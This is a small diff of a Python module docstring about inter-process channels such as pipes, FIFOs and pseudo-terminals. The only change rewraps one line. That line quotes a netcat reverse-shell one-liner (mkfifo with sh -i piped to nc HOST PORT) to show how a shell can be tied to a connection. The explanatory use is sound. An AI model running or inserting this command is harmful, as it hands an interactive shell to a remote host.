@@ -3,7 +3,8 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """What processes talk to each other by: pipes, FIFOs, pairs of Unix sockets, pseudo-terminals (pipe(7), pty(7)).
 
-Who feeds one, and to whom its output goes: "mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with any number of programs in between.
+Who feeds one, and to whom its output goes: "mkfifo f; sh -i <f 2>&1 | nc HOST PORT >f" is a shell on a connection, with
+any number of programs in between.
 """
 
 from __future__ import annotations
